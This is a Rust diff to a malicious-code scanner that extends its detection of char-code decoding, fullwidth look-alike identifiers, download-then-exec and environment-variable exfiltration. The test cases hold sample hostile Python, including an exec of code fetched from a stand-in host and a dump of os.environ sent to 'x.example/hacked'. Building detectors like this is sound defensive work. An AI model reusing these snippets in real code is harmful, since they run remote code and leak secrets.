@@ -270,6 +270,8 @@ const KEYWORDS: &[(&str, u32)] = &[
     ("codecs.decode", G_DECODE),
     ("marshal.loads", G_DECODE | G_EXEC),
     ("rot13", G_DECODE),
+    ("chr(", G_DECODE),
+    ("map(chr", G_DECODE),
     ("rot_13", G_DECODE),
     (".decode(", G_DECODE),
     ("frombase64string", G_DECODE | G_SHELL),
@@ -447,6 +449,7 @@ const KEYWORDS: &[(&str, u32)] = &[
     ("/etc/shadow", G_CRED),
     ("keychain", G_CRED),
     (".npmrc", G_CRED),
+    ("environ", G_CRED),
 ];
 
 struct Keywords {
@@ -946,7 +949,7 @@ fn is_code_neighbour(b: u8) -> bool {
     (0x21..=0x7E).contains(&b)
 }
 
-fn scan_unicode(sink: &mut Sink, line: &Line<'_>, zero_width: bool, mixed: bool) {
+fn scan_unicode(sink: &mut Sink, line: &Line<'_>, zero_width: bool, mixed: bool, nfkc: bool) {
     let text = line.text;
     let mut bidi: Vec<(usize, u32)> = Vec::new();
     let mut zw: Option<(usize, u32)> = None;
@@ -1009,41 +1012,56 @@ fn scan_unicode(sink: &mut Sink, line: &Line<'_>, zero_width: bool, mixed: bool)
             &format!("U+{cp:04X} {name} next to code"),
         );
     }
-    if mixed && text.iter().any(|b| (0xD0..=0xD3).contains(b)) {
-        let s = String::from_utf8_lossy(text);
-        let mut tok = String::new();
-        let mut start = 0usize;
-        let (mut latin, mut cyr) = (false, false);
-        let mut found: Option<(usize, String)> = None;
-        for (i, c) in s.char_indices().chain(std::iter::once((s.len(), ' '))) {
-            if c.is_alphanumeric() || c == '_' {
-                if tok.is_empty() {
-                    start = i;
-                }
-                if tok.len() < 256 {
-                    tok.push(c);
-                }
-                latin |= c.is_ascii_alphabetic();
-                cyr |= ('\u{0400}'..='\u{04FF}').contains(&c);
-            } else {
-                if latin && cyr {
-                    found = Some((start, tok.clone()));
-                    break;
-                }
-                tok.clear();
-                latin = false;
-                cyr = false;
+    let cyrillic = text.iter().any(|b| (0xD0..=0xD3).contains(b));
+    // Fullwidth forms (EF BC xx / EF BD xx) and mathematical alphanumerics (F0 9D xx xx).
+    let nfkc_bytes = nfkc
+        && text
+            .windows(2)
+            .any(|w| matches!(w, [0xEF, 0xBC | 0xBD] | [0xF0, 0x9D]));
+    if !(mixed && (cyrillic || nfkc_bytes)) {
+        return;
+    }
+    let s = String::from_utf8_lossy(text);
+    let mut tok = String::new();
+    let mut start = 0usize;
+    let (mut latin, mut cyr, mut folded) = (false, false, false);
+    for (i, c) in s.char_indices().chain(std::iter::once((s.len(), ' '))) {
+        if c.is_alphanumeric() || c == '_' {
+            if tok.is_empty() {
+                start = i;
             }
+            if tok.len() < 256 {
+                tok.push(c);
+            }
+            latin |= c.is_ascii_alphabetic();
+            cyr |= ('\u{0400}'..='\u{04FF}').contains(&c);
+            folded |= nfkc
+                && (('\u{FF21}'..='\u{FF3A}').contains(&c)
+                    || ('\u{FF41}'..='\u{FF5A}').contains(&c)
+                    || ('\u{1D400}'..='\u{1D7FF}').contains(&c));
+            continue;
         }
-        if let Some((p, tok)) = found {
+        let detail = if latin && cyr {
+            Some("mixes Latin and Cyrillic letters")
+        } else if folded {
+            Some("uses fullwidth or mathematical letters that Python folds to ASCII (NFKC)")
+        } else {
+            None
+        };
+        if let Some(d) = detail {
             sink.push(
                 HitKind::MixedScriptIdentifier,
                 line,
                 false,
-                p,
-                &format!("'{}' mixes Latin and Cyrillic letters", cut(&tok, 60)),
+                start,
+                &format!("'{}' {d}", cut(&tok, 60)),
             );
+            return;
         }
+        tok.clear();
+        latin = false;
+        cyr = false;
+        folded = false;
     }
 }
 
@@ -1508,6 +1526,22 @@ fn py_decode_marker(view: &[u8], raw: &[u8]) -> Option<&'static str> {
     if let Some(n) = NAMES.iter().find(|n| contains(view, n.as_bytes())) {
         return Some(n);
     }
+    // Downloaded code counts as decoded data: `exec(requests.get(u).text)`.
+    const DOWNLOADS: &[(&str, &str)] = &[
+        ("requests.get(", "download (requests.get)"),
+        ("requests.post(", "download (requests.post)"),
+        ("urlopen(", "download (urlopen)"),
+        ("urlretrieve(", "download (urlretrieve)"),
+        ("httpx.get(", "download (httpx.get)"),
+        ("urllib3.request(", "download (urllib3)"),
+    ];
+    if let Some((_, label)) = DOWNLOADS.iter().find(|(n, _)| contains(view, n.as_bytes())) {
+        return Some(label);
+    }
+    // Strings built from character codes: ''.join(map(chr, [...])), chr(101)+chr(120)+...
+    if contains(view, b"map(chr") || memmem::find_iter(view, b"chr(").take(6).count() >= 6 {
+        return Some("char codes");
+    }
     if contains(view, b".decode(") {
         let lc = lower(raw);
         for codec in [
@@ -1556,6 +1590,54 @@ fn py_exec_marker(view: &[u8]) -> Option<&'static str> {
 struct PyFlow {
     decode: Option<(u32, &'static str)>,
     exec: Option<(u32, &'static str)>,
+    /// Last line dumping the environment, and last line with a network call.
+    env: Option<u32>,
+    net: Option<u32>,
+}
+
+/// The whole environment taken as data (not `os.environ.get("X")`).
+fn py_env_dump(view: &[u8]) -> bool {
+    [
+        &b"dict(os.environ"[..],
+        b"os.environ.items()",
+        b"os.environ.copy()",
+        b"str(os.environ",
+        b"dumps(os.environ",
+        b"**os.environ",
+        b"environ.items()",
+        b"=os.environ)",
+        b"= os.environ)",
+    ]
+    .iter()
+    .any(|p| contains(view, p))
+}
+
+fn py_net_call(view: &[u8]) -> bool {
+    NET_CALLS.iter().any(|c| contains(view, c.as_bytes()))
+}
+
+/// Environment variables sent over the network (the `ctx` package shape).
+fn scan_py_env_exfil(sink: &mut Sink, flow: &mut PyFlow, line: &Line<'_>, view: &[u8]) {
+    let env = py_env_dump(view);
+    let net = py_net_call(view);
+    if env {
+        flow.env = Some(line.no);
+    }
+    if net {
+        flow.net = Some(line.no);
+    }
+    let near = |l: Option<u32>| l.is_some_and(|l| line.no.saturating_sub(l) <= DECODE_EXEC_WINDOW);
+    if (env && near(flow.net)) || (net && near(flow.env)) {
+        sink.push(
+            HitKind::CredentialAccess,
+            line,
+            false,
+            0,
+            "environment variables sent over the network",
+        );
+        flow.env = None;
+        flow.net = None;
+    }
 }
 
 fn within(prev: Option<(u32, &'static str)>, no: u32) -> Option<&'static str> {
@@ -1566,10 +1648,18 @@ fn within(prev: Option<(u32, &'static str)>, no: u32) -> Option<&'static str> {
 fn scan_py_decode_exec(sink: &mut Sink, flow: &mut PyFlow, line: &Line<'_>, view: &[u8]) {
     let dec = py_decode_marker(view, line.text);
     let exe = py_exec_marker(view);
+    // Downloaded data pairs only with code execution, not with process calls.
+    let code_exec = |e: &str| !matches!(e, "subprocess." | "os.system" | "os.popen" | "ctypes.");
+    let download = |d: &str| d.starts_with("download");
+    let exe = exe.filter(|e| !dec.is_some_and(download) || code_exec(e));
     let pair = match (dec, exe) {
         (Some(d), Some(e)) if d != "marshal.loads" || e != "marshal.loads" => Some((d, e)),
-        (Some(d), _) => within(flow.exec, line.no).map(|e| (d, e)),
-        (None, Some(e)) => within(flow.decode, line.no).map(|d| (d, e)),
+        (Some(d), _) => within(flow.exec, line.no)
+            .filter(|e| !download(d) || code_exec(e))
+            .map(|e| (d, e)),
+        (None, Some(e)) => within(flow.decode, line.no)
+            .filter(|d| !download(d) || code_exec(e))
+            .map(|d| (d, e)),
         (None, None) => None,
     };
     if let Some(d) = dec {
@@ -1587,7 +1677,8 @@ fn scan_py_decode_exec(sink: &mut Sink, flow: &mut PyFlow, line: &Line<'_>, view
             focus,
             &format!("{d} → {e}"),
         );
-        *flow = PyFlow::default();
+        flow.decode = None;
+        flow.exec = None;
     }
 }
 
@@ -3779,7 +3870,7 @@ pub fn scan_change(
         }
         let text = line.text;
         if !text.is_ascii() && p.bidi {
-            scan_unicode(&mut sink, line, p.zero_width, p.zero_width);
+            scan_unicode(&mut sink, line, p.zero_width, p.zero_width, p.py);
         }
         if p.entropy {
             scan_entropy(&mut sink, line);
@@ -3790,11 +3881,14 @@ pub fn scan_change(
         if g == 0 {
             continue;
         }
-        if p.py && g & (G_DECODE | G_EXEC | G_PROC | G_NET | G_HOOK) != 0 {
+        if p.py && g & (G_DECODE | G_EXEC | G_PROC | G_NET | G_HOOK | G_CRED) != 0 {
             let st = cursor.state_at(line.no);
             py_scan(text, st, Some(&mut view));
-            if g & (G_DECODE | G_EXEC) != 0 {
+            if g & (G_DECODE | G_EXEC | G_NET) != 0 {
                 scan_py_decode_exec(&mut sink, &mut flow, line, &view);
+            }
+            if g & (G_NET | G_CRED) != 0 {
+                scan_py_env_exfil(&mut sink, &mut flow, line, &view);
             }
             if g & G_EXEC != 0 {
                 scan_py_dynamic(&mut sink, line, &view, class);
@@ -4128,6 +4222,19 @@ mod tests {
         assert!(added("pkg/m.py", "# Привет, world\nσx = 1.0\n").is_empty());
     }
 
+    #[test]
+    fn nfkc_folded_identifiers_in_python() {
+        // Fullwidth "exec" is the builtin exec to Python.
+        let h = added("pkg/m.py", "\u{FF45}\u{FF58}\u{FF45}\u{FF43}(payload)\n");
+        assert!(
+            hit(&h, HitKind::MixedScriptIdentifier)
+                .detail
+                .contains("NFKC")
+        );
+        // Fullwidth punctuation in CJK comments is not an identifier.
+        assert!(added("pkg/m.py", "x = 1  # 注释，说明：完成\n").is_empty());
+    }
+
     // --- High-entropy literals -------------------------------------------------------------
 
     #[test]
@@ -4246,6 +4353,45 @@ mod tests {
             "f = types.FunctionType(marshal.loads(bytes.fromhex(h)), {})\n",
         );
         assert!(has(&h, HitKind::DecodeExec));
+    }
+
+    #[test]
+    fn python_download_and_char_code_exec() {
+        let h = added(
+            "setup.py",
+            "exec(requests.get('https://x.example/p').text)\n",
+        );
+        assert_eq!(
+            hit(&h, HitKind::DecodeExec).detail,
+            "download (requests.get) → exec"
+        );
+        let h = added(
+            "pkg/m.py",
+            "s = ''.join(map(chr, [101, 120, 101, 99]))\ngetattr(builtins, s)(code)\neval(s)\n",
+        );
+        assert!(
+            hit(&h, HitKind::DecodeExec)
+                .detail
+                .starts_with("char codes → ")
+        );
+        // A download next to a process call is left to the build/import-time kinds.
+        let h = added(
+            "tools/fetch.py",
+            "urlretrieve(u, '/tmp/x')\nsubprocess.run(['tar', 'xf', '/tmp/x'])\n",
+        );
+        assert!(h.is_empty());
+    }
+
+    #[test]
+    fn environment_exfiltration() {
+        let src = "env = dict(os.environ)\nrequests.get('https://x.example/hacked/' + str(env))\n";
+        let h = added("ctx.py", src);
+        assert_eq!(
+            hit(&h, HitKind::CredentialAccess).detail,
+            "environment variables sent over the network"
+        );
+        let quiet = "env = os.environ.copy()\nenv['PATH'] = p\nsubprocess.run(cmd, env=env)\n";
+        assert!(added("tools/run.py", quiet).is_empty());
     }
 
     #[test]
